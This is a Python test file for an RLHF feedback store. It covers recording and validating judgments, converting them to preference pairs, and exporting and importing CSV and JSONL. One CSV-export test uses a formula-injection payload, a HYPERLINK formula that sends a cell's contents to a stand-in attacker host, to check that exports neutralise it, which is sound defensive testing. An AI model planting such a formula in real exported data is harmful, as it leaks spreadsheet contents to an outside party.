"""The feedback store: round trips, every refusal (nothing written), preference conversion, export/import, schema."""

import json
import math

import numpy as np
import pandas as pd
import pytest
import sqlalchemy as sa

from rlhf_lab.feedback import schema as schema_mod
from rlhf_lab.feedback.records import FLAGS, Item
from rlhf_lab.feedback.store import FeedbackStore


def records(prompt="How are you?", texts=("Fine, thanks!", "Go away.", "Great!", "Meh."), model="tiny", iteration=0):
    return [dict(prompt=prompt, response=t, model=model, iteration=iteration,
                 sampling={"temperature": 0.7, "max_new_tokens": 32}, eos=i % 2 == 0) for i, t in enumerate(texts)]


@pytest.fixture
def store(store_url):
    """A fresh store on SQLite and on PostgreSQL (a real server): every test using it runs on both."""
    s = FeedbackStore(store_url)
    yield s
    s.close()


@pytest.fixture
def filled(store):
    ids = store.add_responses(records())
    return store, ids, {"pair": store.add_item(ids[:2]), "rating": store.add_item(ids[:3], kind="rating"),
                        "ranking": store.add_item(ids, kind="ranking")}


def snapshot(store):
    return store.judgments_df().drop(columns=["timestamp"]).to_json()


def test_path_creates_parent_dirs_and_sqlite_file(tmp_path):
    path = tmp_path / "a" / "b" / "f.db"
    with FeedbackStore(path) as s:
        assert s.url == f"sqlite:///{path}" and s.schema_version == schema_mod.SCHEMA_VERSION
    assert path.is_file()
    with FeedbackStore(f"sqlite:///{path}") as s:  # the same file named by URL
        assert s.counts()["total"] == 0


def test_wal_mode_and_busy_timeout(tmp_path):
    with FeedbackStore(tmp_path / "f.db").engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        assert conn.exec_driver_sql("PRAGMA busy_timeout").scalar() == 60000


def test_responses_and_items_round_trip(filled):
    store, ids, items = filled
    item = store.get_item(items["pair"])
    assert isinstance(item, Item) and item.kind == "pairwise" and item.prompt == "How are you?"
    a, b = item.responses
    assert (a.id, a.text, a.model, a.iteration, a.eos) == (ids[0], "Fine, thanks!", "tiny", 0, True)
    assert a.sampling == {"temperature": 0.7, "max_new_tokens": 32} and b.eos is False
    assert item.iteration == 0 and item.model == "tiny"
    assert [r.id for r in store.get_item(items["ranking"]).responses] == ids
    assert [it.id for it in store.items()] == [items["pair"], items["rating"], items["ranking"]]
    assert [it.id for it in store.items(kind="rating")] == [items["rating"]]
    later = store.add_responses(records(texts=("x y", "z w"), iteration=3))
    newer = store.add_item(later)
    assert [it.id for it in store.items(iteration=3)] == [newer]


@pytest.mark.parametrize("ids, kind, message", [
    ([1], "pairwise", "exactly 2"), ([1, 2, 3], "pairwise", "exactly 2"), ([1], "ranking", "at least 2"),
    ([1, 99], "pairwise", "unknown response"), ([1, 1], "pairwise", "repeat"), ([1, 2], "poll", "kind must be"),
    ([1, 5], "pairwise", "one prompt"),
])
def test_add_item_refusals(store, ids, kind, message):
    store.add_responses(records())
    store.add_responses(records(prompt="Other?", texts=("a b",)))
    with pytest.raises(ValueError, match=message):
        store.add_item(ids, kind=kind)
    assert store.items() == []


def test_record_every_kind_and_judgments_df(filled):
    store, ids, items = filled
    j1 = store.record_pairwise(items["pair"], "ann", "A", strength=2, comment="kinder")
    j2 = store.record_rating(items["rating"], "ann", [6, 2, 6])
    j3 = store.record_ranking(items["ranking"], "ann", [ids[2], ids[0], ids[3], ids[1]])
    j4 = store.record_thumbs(ids[1], "ann", False)
    j5 = store.record_flags(ids[1], "ann", ["harmful", "other"], comment="rude")
    df = store.judgments_df()
    assert df["judgment_id"].tolist() == [j1, j2, j3, j4, j5]
    assert df["kind"].tolist() == ["pairwise", "rating", "ranking", "thumbs", "flags"]
    assert df.loc[0, "answer"] == {"choice": "A", "strength": 2} and df.loc[0, "comment"] == "kinder"
    assert df.loc[1, "answer"] == {"scores": [6, 2, 6], "scale": [1, 7]}
    assert df.loc[2, "answer"] == {"order": [ids[2], ids[0], ids[3], ids[1]]}
    assert df.loc[3, "answer"] == {"up": False} and df.loc[3, "response_ids"] == [ids[1]]
    assert df.loc[4, "answer"] == {"flags": ["harmful", "other"]}
    assert df.loc[0, "responses"] == ["Fine, thanks!", "Go away."] and df.loc[0, "response_ids"] == ids[:2]
    assert set(df["prompt"]) == {"How are you?"} and set(df["model"]) == {"tiny"} and set(df["iteration"]) == {0}
    assert str(df["timestamp"].dt.tz) == "UTC"


def test_add_items_creates_all_or_none(store):
    """An iteration's items go in one transaction: a failure at the last item, after the first two were inserted,
    leaves none, so a resumed run never reuses a partial set."""
    ids = store.add_responses(records(texts=("a", "b", "c", "d")))
    other = store.add_responses(records(prompt="Other?", texts=("e",)))
    for bad, message in (([ids[0], 999], "unknown response"), ([ids[0], other[0]], "one prompt")):
        with pytest.raises(ValueError, match=message):
            store.add_items([ids[:2], ids[2:], bad])
        assert store.items() == []
    made = store.add_items([ids[:2], ids[2:]])
    assert [it.id for it in store.items()] == made and [r.id for r in store.get_item(made[1]).responses] == ids[2:]


def test_rating_single_response_item_takes_an_int(store):
    (rid,) = store.add_responses(records(texts=("Hello there",)))
    item = store.add_item([rid], kind="rating")
    store.record_rating(item, "ann", 5, scale=(1, 5))
    assert store.judgments_df().loc[0, "answer"] == {"scores": [5], "scale": [1, 5]}


@pytest.mark.parametrize("call, message", [
    (lambda s, i, r: s.record_pairwise(999, "ann", "A"), "unknown item"),
    (lambda s, i, r: s.record_pairwise(i["pair"], "", "A"), "annotator"),
    (lambda s, i, r: s.record_pairwise(i["pair"], "   ", "A"), "annotator"),
    (lambda s, i, r: s.record_pairwise(i["pair"], None, "A"), "annotator"),
    (lambda s, i, r: s.record_pairwise(i["pair"], "ann", "C"), "choice"),
    (lambda s, i, r: s.record_pairwise(i["pair"], "ann", "A", strength=4), "strength"),
    (lambda s, i, r: s.record_pairwise(i["ranking"], "ann", "A"), "pairwise needs 2"),
    (lambda s, i, r: s.record_rating(i["rating"], "ann", [1, 2, 8]), "from 1 to 7"),
    (lambda s, i, r: s.record_rating(i["rating"], "ann", [0, 2, 3]), "from 1 to 7"),
    (lambda s, i, r: s.record_rating(i["rating"], "ann", [1, 2.5, 3]), "whole numbers"),
    (lambda s, i, r: s.record_rating(i["rating"], "ann", [1, 2]), "one score each"),
    (lambda s, i, r: s.record_rating(i["rating"], "ann", 4), "one score each"),
    (lambda s, i, r: s.record_rating(i["rating"], "ann", [1, 2, 3], scale=(5, 1)), "scale"),
    (lambda s, i, r: s.record_ranking(i["ranking"], "ann", r[:3]), "each of the item's response ids"),
    (lambda s, i, r: s.record_ranking(i["ranking"], "ann", [r[0], r[0], r[1], r[2]]), "once"),
    (lambda s, i, r: s.record_ranking(i["ranking"], "ann", [*r[:3], 999]), "once"),
    (lambda s, i, r: s.record_ranking(i["ranking"], "ann", ["a", "b", "c", "d"]), "once"),
    (lambda s, i, r: s.record_thumbs(999, "ann", True), "unknown response"),
    (lambda s, i, r: s.record_thumbs(r[0], "ann", 1), "True"),
    (lambda s, i, r: s.record_flags(r[0], "ann", ["rude"]), "flags must be"),
    (lambda s, i, r: s.record_flags(r[0], "ann", ["harmful", "harmful"]), "distinct"),
    (lambda s, i, r: s.record_flags(999, "ann", ["harmful"]), "unknown response"),
])
def test_refusals_write_nothing(filled, call, message):
    store, ids, items = filled
    store.record_pairwise(items["pair"], "other", "B")
    before = snapshot(store)
    with pytest.raises(ValueError, match=message):
        call(store, items, ids)
    assert snapshot(store) == before and store.counts()["total"] == 1


def test_second_judgment_refused_then_undo_or_replace(filled):
    store, ids, items = filled
    first = store.record_pairwise(items["pair"], "ann", "A")
    with pytest.raises(ValueError, match="undo_last.*replace=True"):
        store.record_pairwise(items["pair"], "ann", "B")
    with pytest.raises(ValueError, match="already judged"):  # any kind: one judgment per item and annotator
        store.record_rating(items["pair"], "ann", [1, 2])
    store.record_thumbs(ids[0], "ann", True)
    with pytest.raises(ValueError, match="already judged"):
        store.record_thumbs(ids[0], "ann", False)
    assert store.counts()["total"] == 2
    store.record_pairwise(items["pair"], "bob", "B")  # another annotator may judge it
    new = store.record_pairwise(items["pair"], "ann", "tie", replace=True)
    df = store.judgments_df()
    assert first not in df["judgment_id"].tolist() and len(df) == 3
    assert df.set_index("judgment_id").loc[new, "answer"]["choice"] == "tie"
    undone = store.record_thumbs(ids[0], "ann", False, replace=True)
    assert store.undo_last("ann") == undone
    assert store.undo_last("ann") == new
    assert store.undo_last("ann") is None and store.undo_last("nobody") is None
    assert store.judgments_df()["annotator"].tolist() == ["bob"]
    store.record_pairwise(items["pair"], "ann", "A")  # after undo the item can be judged again


def test_undo_last_of_given_targets_only(filled):
    """A thumbs rater's undo: only a thumb on its replies goes, never a flag on the same reply or a later judgment."""
    store, ids, items = filled
    up = store.record_thumbs(ids[0], "ann", True)
    store.record_thumbs(ids[1], "ann", False)
    flag = store.record_flags(ids[0], "ann", ["harmful"])
    pair = store.record_pairwise(items["pair"], "ann", "A")
    assert store.undo_last("ann", targets=[f"thumbs:{ids[0]}", f"thumbs:{ids[2]}"]) == up
    assert store.undo_last("ann", targets=[f"thumbs:{ids[0]}"]) is None
    assert store.undo_last("bob", targets=[f"thumbs:{ids[1]}"]) is None
    left = store.judgments_df()
    assert left["kind"].tolist() == ["thumbs", "flags", "pairwise"] and {flag, pair} <= set(left["judgment_id"])


def test_pending_items_resume_after_reopen(store_url):
    path = store_url
    s = FeedbackStore(path)
    ids = s.add_responses(records(texts=[f"reply {i}" for i in range(8)]))
    items = [s.add_item(ids[i:i + 2]) for i in range(0, 8, 2)]
    s.record_pairwise(items[0], "ann", "A")
    s.record_pairwise(items[2], "ann", "B")
    s.close()
    s = FeedbackStore(path)  # a kernel restart
    assert [it.id for it in s.pending_items("ann")] == [items[1], items[3]]
    assert [it.id for it in s.pending_items("new")] == items
    assert s.pending_items("ann", kind="ranking") == []
    assert s.judged_targets("ann") == {f"item:{items[0]}", f"item:{items[2]}"}


def test_memory_store():
    with FeedbackStore(":memory:") as s:
        ids = s.add_responses(records())
        s.record_pairwise(s.add_item(ids[:2]), "ann", "A")
        assert s.counts()["total"] == 1


def test_preference_pairs_from_every_kind(filled):
    store, ids, items = filled
    store.record_ranking(items["ranking"], "ann", [ids[3], ids[1], ids[0], ids[2]])
    pairs = store.preference_pairs()
    assert len(pairs) == 6 and set(pairs["source_kind"]) == {"ranking"}
    order = [ids[3], ids[1], ids[0], ids[2]]
    expected = {(order[i], order[k]) for i in range(4) for k in range(i + 1, 4)}
    assert set(zip(pairs["chosen_id"], pairs["rejected_id"])) == expected
    assert pairs["margin"].isna().all() and not pairs["tie"].any()

    store.record_rating(items["rating"], "bob", [5, 2, 5])  # ids[0] = ids[2] > ids[1]
    rated = store.preference_pairs().query("source_kind == 'rating'")
    assert len(rated) == 3
    rows = {(c, r): (t, m) for c, r, t, m in zip(rated.chosen_id, rated.rejected_id, rated.tie, rated.margin)}
    assert rows[(ids[0], ids[1])] == (False, 3.0) and rows[(ids[2], ids[1])] == (False, 3.0)
    assert rows[(ids[0], ids[2])] == (True, 0.0)
    assert len(store.preference_pairs(include_ties=False).query("source_kind == 'rating'")) == 2

    store.record_pairwise(items["pair"], "ann", "B", strength=3)
    store.record_pairwise(items["pair"], "bob", "tie")
    store.record_pairwise(items["pair"], "cat", "both_bad")
    store.record_pairwise(items["pair"], "dan", "A")
    pw = store.preference_pairs().query("source_kind == 'pairwise'").set_index("annotator")
    assert list(pw.index) == ["ann", "bob", "dan"]  # both_bad makes no pair
    assert (pw.loc["ann", "chosen_id"], pw.loc["ann", "rejected_id"], pw.loc["ann", "margin"]) == (ids[1], ids[0], 3)
    assert bool(pw.loc["bob", "tie"]) and pw.loc["bob", "margin"] == 0.0
    assert pw.loc["dan", "chosen"] == "Fine, thanks!" and math.isnan(pw.loc["dan", "margin"])
    assert set(store.preference_pairs()["iteration"]) == {0} and set(store.preference_pairs()["model"]) == {"tiny"}
    assert store.counts()["pairwise_choices"] == {"A": 1, "B": 1, "tie": 1, "both_bad": 1}


def test_ratings_pair_across_single_response_items(store):
    ids = store.add_responses(records(texts=("a a", "b b", "c c")))
    for rid, score in zip(ids, (3, 7, 3)):
        store.record_rating(store.add_item([rid], kind="rating"), "ann", score)
    other = store.add_item([ids[0]], kind="rating")
    store.record_rating(other, "bob", 4)  # another annotator's rating makes no pair with ann's
    pairs = store.preference_pairs()
    assert len(pairs) == 3 and set(pairs["annotator"]) == {"ann"}
    assert pairs["tie"].sum() == 1 and sorted(pairs["margin"]) == [0.0, 4.0, 4.0]


def test_counts(filled):
    store, ids, items = filled
    later = store.add_responses(records(texts=("p q", "r s"), iteration=2, model="policy-2"))
    store.record_pairwise(items["pair"], "ann", "A")
    store.record_pairwise(items["pair"], "bob", "B")
    store.record_pairwise(store.add_item(later), "ann", "tie")
    store.record_thumbs(ids[0], "bob", True)
    c = store.counts()
    assert c["total"] == 4 and c["responses"] == 6 and c["items"] == 4
    assert c["by_kind"] == {"pairwise": 3, "thumbs": 1}
    assert c["by_annotator"] == {"ann": 2, "bob": 2}
    assert c["by_iteration"] == {0: 3, 2: 1}


def test_export_import_jsonl_round_trip(filled, tmp_path):
    store, ids, items = filled
    store.record_pairwise(items["pair"], "ann", "A", strength=2)
    store.record_rating(items["rating"], "ann", [7, 1, 4])
    store.record_ranking(items["ranking"], "bob", ids[::-1])
    store.record_pairwise(items["pair"], "bob", "tie")
    path = tmp_path / "out" / "prefs.jsonl"
    n = store.export_jsonl(path)
    lines = [json.loads(s) for s in path.read_text().splitlines()]
    assert n == len(lines) == 1 + 3 + 6  # the tie is left out of training data by default
    assert {"prompt", "chosen", "rejected", "iteration", "model"} <= set(lines[0])
    assert lines[0]["margin"] == 2.0 and all("margin" not in x for x in lines if x["source_kind"] == "ranking")

    with FeedbackStore(tmp_path / "copy.db") as copy:
        assert copy.import_jsonl(path) == n
        key = ["prompt", "chosen", "rejected", "annotator", "iteration", "model"]
        a = store.preference_pairs(include_ties=False)[key + ["margin"]].sort_values(key).reset_index(drop=True)
        b = copy.preference_pairs()[key + ["margin"]].sort_values(key).reset_index(drop=True)
        pd.testing.assert_frame_equal(a, b)
    with_ties = tmp_path / "ties.jsonl"
    assert store.export_jsonl(with_ties, include_ties=True) == n + 1
    with FeedbackStore(":memory:") as copy:
        copy.import_jsonl(with_ties)
        assert copy.preference_pairs()["tie"].sum() == 1


def test_a_pair_of_two_models_replies_says_which_wrote_which_through_export_and_import(store, tmp_path):
    from rlhf_lab.feedback.preferences import pairs_origin

    ids = store.add_responses([dict(prompt="p", response="old reply", model="base", iteration=1),
                               dict(prompt="p", response="new reply", model="base@iter_001", iteration=2)])
    store.record_pairwise(store.add_item(ids), "ann", "B")  # the later model's reply is chosen
    pair = store.preference_pairs().iloc[0]
    assert (pair["chosen"], pair["chosen_model"], pair["rejected_model"]) == ("new reply", "base@iter_001", "base")
    assert (pair["model"], pair["iteration"], pair["chosen_id"], pair["rejected_id"]) == \
        ("base,base@iter_001", 2, ids[1], ids[0])
    assert pairs_origin(store.preference_pairs())["models"] == ["base", "base@iter_001"]
    path = tmp_path / "pairs.jsonl"
    store.export_jsonl(path)
    line = json.loads(path.read_text())
    assert {k: line[k] for k in ("chosen_model", "rejected_model", "chosen_id", "rejected_id")} == \
        {"chosen_model": "base@iter_001", "rejected_model": "base", "chosen_id": ids[1], "rejected_id": ids[0]}
    with FeedbackStore(":memory:") as copy:
        copy.import_jsonl(path)
        back = copy.preference_pairs().iloc[0]
        assert (back["chosen"], back["chosen_model"], back["rejected_model"], back["model"]) == \
            ("new reply", "base@iter_001", "base", "base,base@iter_001")


def test_import_bad_line_imports_nothing(store, tmp_path):
    path = tmp_path / "bad.jsonl"
    path.write_text(json.dumps({"prompt": "p", "chosen": "a", "rejected": "b"}) + "\n" + json.dumps({"prompt": "p"}))
    with pytest.raises(ValueError, match="line 2"):
        store.import_jsonl(path)
    assert store.counts()["total"] == 0 and store.counts()["responses"] == 0


def test_export_csv(filled, tmp_path):
    store, ids, items = filled
    store.record_pairwise(items["pair"], "ann", "A")
    store.record_flags(ids[1], "ann", ["harmful"], comment='she said "no", twice')
    assert store.export_csv(tmp_path / "j.csv") == 2
    df = pd.read_csv(tmp_path / "j.csv")
    assert list(df["kind"]) == ["pairwise", "flags"] and json.loads(df.loc[1, "answer"]) == {"flags": ["harmful"]}
    assert df.loc[1, "comment"] == 'she said "no", twice' and set(df["iteration"]) == {0}
    assert store.export_csv(tmp_path / "p.csv", what="pairs") == 1


def test_csv_exports_never_hold_a_live_spreadsheet_formula_and_jsonl_keeps_the_text(tmp_path):
    """A reply, prompt, name or comment that starts with = + - @, a tab or a carriage return gets a leading ' in CSV
    (a spreadsheet shows it as text), and a carriage return in a text never splits its row; numbers stay numbers;
    JSON lines keep every text exactly."""
    import csv

    link = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
    (tmp_path / "in.jsonl").write_text(json.dumps(dict(prompt="Hi", chosen="@SUM(1+1)", rejected="Hello.",
                                                       margin=-0.5, model="\rm")) + "\n")
    with FeedbackStore(tmp_path / "f.db") as store:
        ids = store.add_responses([dict(prompt="+Give me a link", response=link, model="m", iteration=0),
                                   dict(prompt="+Give me a link", response="-1 is less", model="m", iteration=0)])
        store.record_pairwise(store.add_item(ids), "@me", "A", comment="\tSUM(1+1)")
        quoted = store.add_responses([dict(prompt="'Tis the season", response=r, model="m", iteration=0)
                                      for r in ("'quoted'", "plain")])
        store.record_pairwise(store.add_item(quoted), "bo", "B", comment="'")
        store.import_jsonl(tmp_path / "in.jsonl")
        store.export_csv(tmp_path / "p.csv", what="pairs")
        store.export_csv(tmp_path / "j.csv")
        store.export_jsonl(tmp_path / "p.jsonl")
    mine, quoted_row, imported = csv.DictReader(open(tmp_path / "p.csv", newline=""))  # the \r splits no row
    assert (mine["prompt"], mine["chosen"], mine["rejected"], mine["annotator"]) == \
        ("'+Give me a link", "'" + link, "'-1 is less", "'@me")
    assert (imported["chosen"], imported["model"], imported["margin"]) == ("'@SUM(1+1)", "'\rm", "-0.5")
    assert (mine["chosen_id"], mine["iteration"], mine["model"]) == ("1", "0", "m")  # numbers and plain text kept
    judgment = next(csv.DictReader(open(tmp_path / "j.csv", newline="")))
    assert (judgment["prompt"], judgment["annotator"], judgment["comment"]) == ("'+Give me a link", "'@me",
                                                                                "'\tSUM(1+1)")
    assert json.loads(judgment["responses"]) == [link, "-1 is less"]  # inside JSON (starts with [): exact
    # a text that starts with ' gets one more, so stripping one leading ' always reads the exact text back
    assert (quoted_row["prompt"], quoted_row["chosen"], quoted_row["rejected"]) == \
        ("''Tis the season", "plain", "''quoted'")
    unquote = {k: v[1:] if v.startswith("'") else v for k, v in quoted_row.items()}
    assert (unquote["prompt"], unquote["rejected"]) == ("'Tis the season", "'quoted'")
    assert list(csv.DictReader(open(tmp_path / "j.csv", newline="")))[1]["comment"] == "''"
    line = json.loads((tmp_path / "p.jsonl").read_text().splitlines()[0])
    assert (line["prompt"], line["chosen"], line["rejected"], line["annotator"]) == \
        ("+Give me a link", link, "-1 is less", "@me")


def test_a_store_is_a_path_or_url_and_filters_exports_and_folders_are_checked(tmp_path, monkeypatch):
    """FeedbackStore(None) makes no file "None"; a misspelt kind, a text iteration or an unknown export are refused,
    not answered with nothing; a folder given as an export or import file is one line naming it."""
    monkeypatch.chdir(tmp_path)
    with pytest.raises(TypeError, match=r"a file path or a database URL, .*, not None\.$"):
        FeedbackStore(None)
    assert list(tmp_path.iterdir()) == []
    with FeedbackStore(tmp_path / "f.db") as store:
        store.add_item(store.add_responses(records(texts=("Fine.", "Go away."))))
        with pytest.raises(ValueError, match=r"kind must be one of \('pairwise', 'rating', 'ranking'\).*'pairwse'"):
            store.items(kind="pairwse")
        for iteration in ("0", 0.0, True):
            with pytest.raises(TypeError, match="iteration must be a whole number"):
                store.items(kind="pairwise", iteration=iteration)
        assert [len(store.items(kind="pairwise", iteration=k)) for k in (0, np.int64(0), 1)] == [1, 1, 0]
        with pytest.raises(ValueError, match="what must be 'judgments' or 'pairs', got 'judgements'"):
            store.export_csv(tmp_path / "j.csv", what="judgements")
        folder = tmp_path / "exports"
        folder.mkdir()
        for call, name in ((store.export_jsonl, "pairs.jsonl"), (store.export_csv, "judgments.csv")):
            with pytest.raises(ValueError, match=f"^{folder} is a folder: give a file name, e.g. {folder / name}$"):
                call(folder)
        with pytest.raises(ValueError, match=f"^{folder} is a folder: give the path of a JSON-lines file"):
            store.import_jsonl(folder)
        with pytest.raises(FileNotFoundError, match=f"^No file at {folder / 'p.jsonl'}: give the path"):
            store.import_jsonl(folder / "p.jsonl")
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("f.db")) == ["exports"]
    assert list(folder.iterdir()) == []


def test_an_export_never_replaces_a_feedback_store(tmp_path):
    """export_unpaired_jsonl(store, "runs/feedback.db") (a slip of the path) replaced the store itself with JSON
    lines: every judgment lost. Any SQLite database is refused; the store reads as before."""
    from rlhf_lab.feedback.exchange import export_unpaired_jsonl

    with FeedbackStore(tmp_path / "feedback.db") as store:
        store.record_pairwise(store.add_item(store.add_responses(records(texts=("Fine.", "Go away.")))), "me", "A")
        before = (tmp_path / "feedback.db").read_bytes()
        for call, name in ((store.export_jsonl, "pairs.jsonl"), (store.export_csv, "judgments.csv"),
                           (lambda path: export_unpaired_jsonl(store, path), "unpaired.jsonl")):
            with pytest.raises(ValueError, match=rf"^{tmp_path / 'feedback.db'} is a SQLite database \(a "
                                                 rf"feedback store\): an export never replaces it; .* "
                                                 rf"e\.g\. {tmp_path / name}$"):
                call(tmp_path / "feedback.db")
        assert (tmp_path / "feedback.db").read_bytes() == before and len(store.judgments_df()) == 1


def test_an_export_that_fails_halfway_leaves_the_previous_file_whole(filled, tmp_path, monkeypatch):
    """Exports are written whole or not at all: a crash while writing must not leave a shorter file that still
    reads as valid in place of the previous export."""
    from rlhf_lab.feedback import exchange

    store, ids, items = filled
    store.record_pairwise(items["pair"], "ann", "A")
    store.record_thumbs(ids[0], "ann", True)
    (tmp_path / "exports").mkdir()
    paths = {name: tmp_path / "exports" / name for name in ("pairs.jsonl", "judgments.csv", "thumbs.jsonl")}
    for name, path in paths.items():
        path.write_text(f"the previous export of {name}\n")

    def crash(*args, **kwargs):
        raise OSError("disk went away")
    monkeypatch.setattr(exchange.json, "dumps", crash)
    for call, path in ((lambda p: store.export_jsonl(p), paths["pairs.jsonl"]),
                       (lambda p: exchange.export_unpaired_jsonl(store, p), paths["thumbs.jsonl"])):
        with pytest.raises(OSError, match="disk went away"):
            call(path)
    monkeypatch.undo()
    monkeypatch.setattr(pd.DataFrame, "to_csv", crash)
    with pytest.raises(OSError, match="disk went away"):
        store.export_csv(paths["judgments.csv"])
    monkeypatch.undo()
    for name, path in paths.items():
        assert path.read_text() == f"the previous export of {name}\n"
    assert sorted(p.name for p in (tmp_path / "exports").iterdir()) == sorted(paths)  # no temporary file left
    assert store.export_jsonl(paths["pairs.jsonl"]) == 1 and "chosen" in paths["pairs.jsonl"].read_text()


def test_flags_constant_and_empty_flags_allowed(filled):
    store, ids, _ = filled
    assert FLAGS == ("harmful", "biased", "off_topic", "factually_wrong", "other")
    store.record_flags(ids[0], "ann", [], comment="looked fine")
    store.record_flags(ids[0], "bob", "biased")
    assert [a["flags"] for a in store.judgments_df()["answer"]] == [[], ["biased"]]


def test_schema_migration_hook(tmp_path, monkeypatch):
    path = tmp_path / "old.db"
    FeedbackStore(path).close()
    engine = sa.create_engine(f"sqlite:///{path}")
    with engine.begin() as conn:
        conn.exec_driver_sql("UPDATE schema_version SET version = 0")
    engine.dispose()
    ran = []
    monkeypatch.setitem(schema_mod.MIGRATIONS, 0, lambda conn: ran.append(conn.exec_driver_sql("SELECT 1").scalar()))
    with FeedbackStore(path) as s:
        assert ran == [1] and s.schema_version == schema_mod.SCHEMA_VERSION
    with sa.create_engine(f"sqlite:///{path}").begin() as conn:
        conn.exec_driver_sql("UPDATE schema_version SET version = 99")
    with pytest.raises(ValueError, match="Upgrade rlhf-lab"):
        FeedbackStore(path)


def test_any_text_round_trips_on_both_databases(store):
    """Model text is arbitrary: a NUL byte (which PostgreSQL refuses in text) and the escape character itself come
    back exactly, in every text column, and lookups by annotator still match."""
    from rlhf_lab.feedback.schema import escape_nul

    odd = ["nul \x00 here", "\ue000 escape \ue0000", "\x00", "", "emoji 🙂 and \u2028 line sep", "\ue000\x00\ue000"]
    ids = store.add_responses([dict(prompt="p\x00q", response=t, model="m\x00", iteration=0) for t in odd])
    item = store.add_item(ids[:2])
    who = "stu\x00dent"
    store.record_pairwise(item, who, "A", comment="c\x00\ue000")
    assert [store.get_response(i).text for i in ids] == odd
    assert store.get_item(item).prompt == "p\x00q" and store.get_response(ids[0]).model == "m\x00"
    row = store.judgments_df().iloc[0]
    assert (row["annotator"], row["comment"], row["prompt"]) == (who, "c\x00\ue000", "p\x00q")
    assert store.judged_targets(who) == {f"item:{item}"} and store.pending_items(who) == []
    assert store.undo_last(who) is not None and store.counts()["total"] == 0
    if store.engine.dialect.name == "postgresql":  # what the server holds has no NUL and reads back escaped
        with store.engine.connect() as conn:
            raw = conn.exec_driver_sql("SELECT text FROM responses ORDER BY id").scalars().all()
        assert raw == [escape_nul(t) for t in odd] and not any("\x00" in t for t in raw)


def test_an_undone_judgments_id_is_never_reused(store):
    ids = store.add_responses(records())
    item = store.add_item(ids[:2])
    first = store.record_pairwise(item, "ann", "A")
    assert store.undo_last("ann") == first
    assert store.record_pairwise(item, "ann", "B") > first  # "judgment 1" always means one judgment


def test_a_version_1_store_upgrades_keeping_every_judgment(tmp_path):
    path = tmp_path / "v1.db"
    with FeedbackStore(path) as s:
        ids = s.add_responses(records())
        items = [s.add_item(ids[:2]), s.add_item(ids[2:])]
        kept = [s.record_pairwise(items[0], "ann", "A", comment="x"), s.record_pairwise(items[1], "ann", "B")]
    engine = sa.create_engine(f"sqlite:///{path}")
    with engine.begin() as conn:  # what version 1 wrote: no AUTOINCREMENT, no class tables
        ddl = conn.exec_driver_sql("SELECT sql FROM sqlite_master WHERE name = 'judgments'").scalar()
        conn.exec_driver_sql("ALTER TABLE judgments RENAME TO j_old")
        conn.exec_driver_sql(ddl.replace(" AUTOINCREMENT", ""))
        conn.exec_driver_sql("INSERT INTO judgments SELECT * FROM j_old")
        conn.exec_driver_sql("DROP TABLE j_old")
        conn.exec_driver_sql("DROP TABLE assignments")
        conn.exec_driver_sql("DROP TABLE students")
        conn.exec_driver_sql("UPDATE schema_version SET version = 1")
    engine.dispose()
    with FeedbackStore(path) as s:
        assert s.schema_version == 2
        df = s.judgments_df()
        assert df["judgment_id"].tolist() == kept and df["comment"].tolist() == ["x", ""]
        assert s.undo_last("ann") == kept[1] and s.record_pairwise(items[1], "ann", "A") > kept[1]


@pytest.mark.parametrize("call, message", [
    (lambda s: s.add_responses(records(texts=(None,))), "response must be a string"),
    (lambda s: s.add_responses(records(model="m" * 2**20)), "model is 1048576 characters long; at most 4096"),
    (lambda s: s.add_responses(records(iteration=2.9)), "iteration must be a whole number"),
    (lambda s: s.add_item([1.7, 2.2]), "response id must be a whole number, got 1.7"),
    (lambda s: s.record_pairwise(1.0, "ann", "A"), "item id must be a whole number, got 1.0"),
    (lambda s: s.record_rating(1, "ann", None), "scores must be a list"),
    (lambda s: s.record_ranking(1, "ann", None), "order must be a list"),
    (lambda s: s.record_flags(1, "ann", None), "flags must be a list"),
])
def test_bad_values_are_a_clear_value_error_and_nothing_is_written(store, call, message):
    store.add_item(store.add_responses(records(texts=("a", "b"))))
    before = store.counts()
    with pytest.raises(ValueError, match=message):
        call(store)
    assert store.counts() == before


@pytest.mark.parametrize("extra, message", [
    ({"tie": "false"}, "line 1: tie must be true or false"), ({"annotator": None}, "line 1: annotator must be"),
    ({"margin": float("nan")}, "margin must be a finite number"), ({"margin": float("inf")}, "margin must be a finite"),
    ({"iteration": 2.9}, "iteration must be a whole number, got 2.9"),
])
def test_import_refuses_bad_values_by_line_and_imports_nothing(store, tmp_path, extra, message):
    path = tmp_path / "bad.jsonl"
    path.write_text(json.dumps({"prompt": "p", "chosen": "a", "rejected": "b", **extra}) + "\n")
    with pytest.raises(ValueError, match=message):
        store.import_jsonl(path)
    assert store.counts()["responses"] == 0


def test_import_names_the_file_reads_a_bom_and_refuses_a_second_import(store, tmp_path):
    line = json.dumps({"prompt": "p", "chosen": "a", "rejected": "b"})
    (tmp_path / "broken.jsonl").write_text(line + "\n{not json\n")
    with pytest.raises(ValueError, match=r"broken.jsonl line 2 is not JSON"):
        store.import_jsonl(tmp_path / "broken.jsonl")
    (tmp_path / "bom.jsonl").write_bytes(b"\xef\xbb\xbf" + line.encode() + b"\n")
    assert store.import_jsonl(tmp_path / "bom.jsonl") == 1
    with pytest.raises(ValueError, match="imported into this store already"):
        store.import_jsonl(tmp_path / "bom.jsonl")
    assert store.counts()["total"] == 1


@pytest.mark.parametrize("versions, message", [([0], "schema version 0, which no rlhf-lab wrote"),
                                               ([2, 2], "2 rows in its schema_version table")])
def test_a_damaged_schema_version_is_a_clear_value_error(tmp_path, versions, message):
    FeedbackStore(tmp_path / "s.db").close()
    with sa.create_engine(f"sqlite:///{tmp_path / 's.db'}").begin() as conn:
        conn.exec_driver_sql("DELETE FROM schema_version")
        for v in versions:
            conn.exec_driver_sql(f"INSERT INTO schema_version VALUES ({v})")
    with pytest.raises(ValueError, match=message):
        FeedbackStore(tmp_path / "s.db")


def test_a_store_we_may_not_write_is_read_and_left_untouched(tmp_path, monkeypatch):
    with FeedbackStore(tmp_path / "s.db") as s:
        s.record_pairwise(s.add_item(s.add_responses(records(texts=("a", "b")))), "ann", "A")
    before = (tmp_path / "s.db").read_bytes()
    monkeypatch.setattr("rlhf_lab.feedback.database.os.access", lambda path, mode: False)  # file and folder
    with FeedbackStore(tmp_path / "s.db") as s:
        assert s.read_only and s.counts()["total"] == 1
        with pytest.raises(PermissionError, match="read-only"):
            s.add_responses(records())
